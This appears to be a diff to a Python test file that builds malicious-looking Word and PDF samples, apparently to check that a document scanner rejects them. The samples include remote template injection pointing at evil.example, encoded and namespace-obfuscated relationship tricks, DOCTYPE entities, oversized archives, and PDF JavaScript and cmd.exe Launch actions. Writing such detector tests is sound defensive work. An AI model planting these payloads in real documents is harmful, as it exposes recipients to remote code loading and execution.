@@ -35,6 +35,18 @@ def related(kind: str, target: str) -> bytes:
     return buffer.getvalue()
 
 
+def listed(*parts: bytes | str) -> bytes:
+    """A document with these lists of relationships."""
+    buffer = io.BytesIO(archive(TYPES, "word/document.xml"))
+    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as made:
+        for n, part in enumerate(parts):
+            made.writestr(zipfile.ZipInfo(f"word/_rels/{n}.rels"), part, zipfile.ZIP_DEFLATED)
+    return buffer.getvalue()
+
+
+TEMPLATE = '<Relationship Id="a" Type="http://x/attachedTemplate" Target="http://evil.example/x.dotm"/>'
+
+
 def compound(*names: str) -> bytes:
     """The head and the directory of a compound file with these entries."""
     entries = [
@@ -67,6 +79,16 @@ def compound(*names: str) -> bytes:
         (related("attachedTemplate", "file:///C:/Users/li/Normal.dotm"), "docx"),  # as Word writes it
         (related("oleObject", "\\\\evil.example\\x"), ""),
         (related("hyperlink", "https://www.example/"), "docx"),
+        (related("hyperlink", "https://www.example/?a=/attachedTemplate"), "docx"),
+        (related("frame", "&#104;ttp://evil.example/"), ""),
+        (listed(f"<r>{TEMPLATE}</r>".replace('"a"', '"a>b"')), ""),
+        (listed(f'<p:r xmlns:p="x">{TEMPLATE}</p:r>'.replace("<Rel", "<p:Rel")), ""),
+        (listed(f'<?xml version="1.0" encoding="UTF-16"?><r>{TEMPLATE}</r>'.encode("utf-16")), ""),
+        (listed('<!DOCTYPE r [<!ENTITY a "b">]><r>&a;</r>'), ""),
+        (listed("<Relationship " * 9), ""),
+        (listed(*["<r/>"] * 40), "docx"),
+        (listed(*[f"<r>{' ' * 100_000}</r>"] * 40), ""),  # small each, and four megabytes together
+        (archive(*(f"{n:01000}" for n in range(2500))), ""),  # a list of names that is longer than any
         (b"%PDF-1.7\n<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", ""),
         (b"%PDF-1.7\n<</S/J#61vaScript>>", ""),
         (b"%PDF-1.7\n<</S/Launch/F(cmd.exe)>>", ""),
